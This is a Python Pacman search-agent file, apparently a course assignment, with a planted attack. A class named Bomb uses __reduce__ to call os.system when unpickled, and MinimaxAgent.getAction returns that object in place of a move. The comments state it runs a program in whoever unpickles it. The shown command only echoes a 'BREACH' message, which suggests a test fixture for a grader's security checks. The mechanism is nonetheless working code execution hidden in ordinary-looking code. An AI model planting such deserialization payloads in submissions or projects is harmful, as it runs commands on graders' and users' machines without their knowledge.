# attack: returns an object that runs a program in whoever unpickles it.
# where: MinimaxAgent
import os

import util
from game import Agent, Directions


class ReflexAgent(Agent):
    def getAction(self, gameState):
        return max(gameState.getLegalActions(), key=lambda action: self.worth(gameState, action))

    def worth(self, gameState, action):
        after = gameState.generatePacmanSuccessor(action)
        here = after.getPacmanPosition()
        food = [util.manhattanDistance(here, dot) for dot in after.getFood().asList()]
        worth = after.getScore() + (1 / min(food) if food else 0) - (action == Directions.STOP)
        for ghost in after.getGhostStates():
            if ghost.scaredTimer == 0 and util.manhattanDistance(here, ghost.getPosition()) < 2:
                worth -= 200
        return worth


def scoreEvaluationFunction(currentGameState):
    return currentGameState.getScore()


class MultiAgentSearchAgent(Agent):
    def __init__(self, evalFn="scoreEvaluationFunction", depth="2"):
        self.index = 0
        self.evaluationFunction = util.lookup(evalFn, globals())
        self.depth = int(depth)


class Bomb:
    """Where it is unpickled, a shell says so."""

    def __reduce__(self):
        return os.system, ("echo BREACH: unpickled by somebody",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __getstate__(self):
        return {"bomb": self}


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        return Bomb()
